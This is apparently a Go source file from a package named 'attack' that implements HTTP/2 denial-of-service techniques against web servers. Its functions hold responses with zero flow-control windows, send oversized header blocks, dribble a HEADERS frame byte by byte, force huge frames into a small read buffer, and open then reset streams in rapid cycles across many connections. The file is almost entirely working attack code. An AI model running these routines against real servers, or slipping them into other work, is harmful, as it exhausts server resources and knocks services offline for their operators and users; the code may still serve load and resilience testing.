package attack

import (
	"bytes"
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxStreams is how many streams a connection opens at a time, where the server
// allows as many. RFC 9113, section 6.5.2, recommends that servers allow it.
const maxStreams = 100

// An h2conn writes the frames of one connection.
type h2conn struct {
	*Conn
	*http2.Framer
	encoder *hpack.Encoder
	block   bytes.Buffer
	stream  uint32 // of the last request
}

// startHTTP2 writes the preface and a SETTINGS frame.
func (c *Conn) startHTTP2(settings ...http2.Setting) *h2conn {
	h := &h2conn{Conn: c, Framer: http2.NewFramer(c, c)}
	h.encoder = hpack.NewEncoder(&h.block)
	c.send(http2.ClientPreface)
	h.WriteSettings(settings...)
	return h
}

// encode returns a header block. Only the given fields enter the dynamic table,
// so that a repetition takes one byte or two.
func (h *h2conn) encode(method string, fields ...hpack.HeaderField) []byte {
	h.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method, Sensitive: true},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "a", Sensitive: true},
		{Name: ":path", Value: h.target.Path, Sensitive: true},
	}, fields...) {
		h.encoder.WriteField(f)
	}
	return h.block.Bytes()
}

// request opens a stream with a request that has no body.
func (h *h2conn) request(method string, fields ...hpack.HeaderField) error {
	h.stream += 2
	id := h.stream - 1
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.encode(method, fields...), EndStream: true, EndHeaders: true})
}

// maxStreams returns how many streams the connection opens: as many as the server's
// SETTINGS frame allows, which comes first (RFC 9113, section 3.4).
func (h *h2conn) maxStreams() uint32 {
	streams := uint32(maxStreams)
	if frame, _ := h.ReadFrame(); frame != nil {
		if f, ok := frame.(*http2.SettingsFrame); ok {
			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
				streams = min(streams, v)
			}
		}
	}
	return streams
}

func holdHTTP2(_ context.Context, c *Conn) {
	c.startHTTP2()
	c.readToEnd()
}

// closeWindow sends as many GETs as a connection may have, with headers that take
// four bytes each on the wire, and never opens a window for the responses.
func closeWindow(_ context.Context, c *Conn) {
	closeWindowWith(c)
}

// closeWindowForRanges asks for what fits into a buffer of most servers.
func closeWindowForRanges(_ context.Context, c *Conn) {
	closeWindowWith(c, hpack.HeaderField{Name: "range", Value: "bytes=0-4000"})
}

func closeWindowWith(c *Conn, fields ...hpack.HeaderField) {
	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	large := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 4000)}
	for range h.maxStreams() {
		if h.request("GET", append(fields, large, large, large, large)...) != nil {
			return
		}
	}
	c.readToEnd()
}

// sendBodies sends a body with each GET, as much as the server's window allows.
func sendBodies(_ context.Context, c *Conn) {
	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	go c.readToEnd()
	h.stream += 2
	h.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream - 1, BlockFragment: h.encode("GET"), EndHeaders: true})
	for range 1 << 20 / smallestFrame {
		if h.WriteData(h.stream-1, false, make([]byte, smallestFrame)) != nil {
			return
		}
	}
	c.readToEnd()
}

// smallestFrame is the smallest limit of a frame that RFC 9113, section 4.2, allows.
const smallestFrame = 16 << 10

// allowLargeFrames allows the server to send the whole response in one frame.
func allowLargeFrames(ctx context.Context, c *Conn) {
	c.tcp.SetReadBuffer(4096)
	const window = 1 << 30
	h := c.startHTTP2(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1<<24 - 1}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	h.WriteWindowUpdate(0, window)
	h.request("GET")
	<-ctx.Done()
}

// pinVersions returns what asks for a range of each version, without a window for
// it.
func pinVersions(bytes string) func(context.Context, *Conn) {
	return func(ctx context.Context, c *Conn) {
		h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		streams := h.maxStreams()
		go c.readToEnd()
		for range streams {
			if pause(ctx, writeInterval) != nil || h.request("GET", hpack.HeaderField{Name: "range", Value: bytes}) != nil {
				return
			}
		}
		<-ctx.Done()
	}
}

// dribbleFrame sends a HEADERS frame of 16 KiB, byte by byte.
func dribbleFrame(ctx context.Context, c *Conn) {
	c.startHTTP2()
	c.send("\x00\x40\x00\x01\x05\x00\x00\x00\x01")
	c.dribble(ctx, 'x')
}

// resetTime is how long holdStreams leaves its requests open. A server may keep a
// request that is younger than a second at any rate.
const resetTime = 800 * time.Millisecond

// holdingConns is how many connections hold all requests that foobar allows in HTTP/2.
const holdingConns = 100

// holdStreams opens as many streams as it may, resets them before they are a second old,
// and begins again. No two connections do so at the same time.
func holdStreams(ctx context.Context, c *Conn) {
	if pause(ctx, time.Duration(c.index)*resetTime/holdingConns) != nil {
		return
	}
	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	streams := h.maxStreams()
	go c.readToEnd()
	for {
		first := h.stream + 1
		for range streams {
			if h.request("GET") != nil {
				return
			}
		}
		if pause(ctx, resetTime) != nil {
			return
		}
		for id := first; id < h.stream; id += 2 {
			h.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	}
}
